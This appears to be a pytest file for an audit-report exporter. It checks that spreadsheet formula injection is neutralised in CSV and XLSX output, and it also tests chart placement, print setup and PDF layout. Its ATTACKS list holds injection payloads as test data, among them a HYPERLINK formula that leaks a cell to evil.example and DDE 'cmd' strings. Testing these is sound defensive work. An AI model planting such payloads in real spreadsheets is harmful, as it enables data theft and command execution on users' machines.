"""What real use found in the reports: formula injection past control characters, the XLSX
chart, filters and print setup, and the PDF's cover, pages and headings."""

from __future__ import annotations

import io
import re
import unicodedata
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from app.i18n import Translator
from audit.export import to_csv, to_xlsx
from audit.model import Comment, Report
from tests.test_export import LOCALES, build_report, csv_rows

FORMULA_SIGNS = "=+-@＝＋－＠"
# What an attacker types into a comment or a staff member into a practice name.
ATTACKS = [
    "=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2028=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x0b\x0c \u200b=1+1",
    "＝1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\x0b+cmd|' /C calc'!A0",
    "\x0b@SUM(1)",
]


def ignorable(char: str) -> bool:
    return char.isspace() or unicodedata.category(char)[0] in "CZ"


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would take a text cell for a formula."""
    first = next((c for c in text if not ignorable(c)), "")
    return first in FORMULA_SIGNS and not text.startswith("'")


def attacked_report() -> Report:
    report = build_report()
    at = report.comments[0].answered_on
    report.comments = [
        Comment(100 + n, "krakow", "krakow-info", text, hidden=False, answered_on=at)
        for n, text in enumerate(ATTACKS)
    ]
    report.practices[0] = replace(
        report.practices[0], practice={locale: "\x0b=1+1 name" for locale in LOCALES}
    )
    return report


def test_the_formula_guard_looks_past_control_and_invisible_characters() -> None:
    translator = Translator("en")
    report = attacked_report()
    content = to_xlsx(report, translator, "en")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert sum("1+1" in text for text in texts) >= len(ATTACKS) - 6
    assert [t for t in texts if looks_like_formula(t)] == []

    rows = csv_rows(to_csv(report, translator, "en"))
    assert [cell for row in rows for cell in row if looks_like_formula(cell)] == []
    assert any("1+1 name" in cell for row in rows for cell in row)


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_neutralises_each_attack(attack: str) -> None:
    from audit.privacy import safe_cell

    assert not looks_like_formula(safe_cell(attack))


def test_the_xlsx_chart_sits_under_its_data_and_every_table_filters_and_prints() -> None:
    report = build_report()
    content = to_xlsx(report, Translator("en"), "en")
    book = load_workbook(io.BytesIO(content))
    rows = book["Summary"].max_row
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        drawing = archive.read("xl/drawings/drawing1.xml").decode()
    anchor = re.search(r"<from><col>(\d+)</col>.*?<row>(\d+)</row>", drawing)
    assert anchor is not None
    anchor_col, anchor_row = int(anchor[1]), int(anchor[2]) + 1  # zero-based in the file
    assert anchor_col <= 1  # column A or B: on screen, not at column R
    assert anchor_row > rows  # under the table, not over it
    for name in ("Summary", "Criteria", "Trend", "Comments"):
        sheet = book[name]
        last = f"{sheet.cell(1, sheet.max_column).column_letter}{max(sheet.max_row, 2)}"
        assert sheet.auto_filter.ref == f"A1:{last}", name
        assert sheet.print_title_rows in ("1:1", "$1:$1"), name
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0, name
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, name
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4), name
    assert book["Summary"].page_setup.orientation == "landscape"
    assert book["Criteria"].page_setup.orientation == "landscape"
    assert book["Method"].page_setup.orientation == "portrait"


# --- PDF ---------------------------------------------------------------------------------------

PDF_HEADINGS = (
    "City",
    "Practice",
    "Score (0–100)",
    "95 % CI",
    "Completed responses",
    "Completion rate",
    "Knew the practice",
    "Used the practice",
    "Criterion",
    "Mean (1–5)",
    "Ratings (n)",
    "Don't know",
    "Previous round opened",
    "Previous score",
    "Change (points)",
    "Distinguished in",
    "Still carried out",
    "Re-evaluation",
)


def pdf_pages(content: bytes) -> list[str]:
    from pypdf import PdfReader

    return [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]


@pytest.mark.parametrize("locale", LOCALES)
def test_no_table_heading_is_split_inside_a_word(locale: str) -> None:
    from audit.export import to_pdf
    from conversations.messages import Msg

    translator = Translator("en")
    words = set(" ".join(pdf_pages(to_pdf(build_report(), translator, locale))).split())
    for heading in PDF_HEADINGS:
        for word in translator.render(Msg(heading), locale).split():
            assert word in words, (locale, heading, word)


def text_bottoms(content: bytes) -> list[float]:
    """Per page, how far down (0 at the top, 1 at the bottom margin) its text reaches, the
    footer left out."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(content))
    bottoms = []
    for page in reader.pages:
        height = float(page.mediabox.height)
        lowest = [height]

        def visit(
            text: str,
            _cm: object,
            tm: list[float],
            _font: object,
            _size: object,
            lowest: list[float] = lowest,
        ) -> None:
            if text.strip() and tm[5] > 15 / 25.4 * 72 * 1.5:  # above the footer
                lowest[0] = min(lowest[0], tm[5])

        page.extract_text(visitor_text=visit)
        bottoms.append((height - lowest[0]) / (height - 2 * 18 / 25.4 * 72))
    return bottoms


@pytest.mark.parametrize("locale", LOCALES)
def test_no_page_between_the_cover_and_the_last_is_near_empty(locale: str) -> None:
    from audit.export import to_pdf

    bottoms = text_bottoms(to_pdf(build_report(), Translator("en"), locale))
    assert len(bottoms) >= 3
    assert all(bottom > 0.5 for bottom in bottoms[1:-1]), bottoms


def test_the_cover_names_the_cities_and_marks_an_interim_report() -> None:
    from audit.export import to_pdf

    translator = Translator("en")
    final = build_report()
    cover = pdf_pages(to_pdf(final, translator, "pl"))[0]
    assert "Kraków, Gdańsk" in cover
    assert "śródroczny" not in cover.lower() and "wstępny" not in cover.lower()
    interim = replace(final, interim=True)
    pages = pdf_pages(to_pdf(interim, translator, "en"))
    assert "Interim report" in " ".join(pages[0].split())
    assert all("Round 12 · interim ·" in page for page in pages[1:])  # every footer
    one_city = replace(final, practices=[p for p in final.practices if p.city_id == "krakow"])
    assert "City: Kraków" in pdf_pages(to_pdf(one_city, translator, "en"))[0]
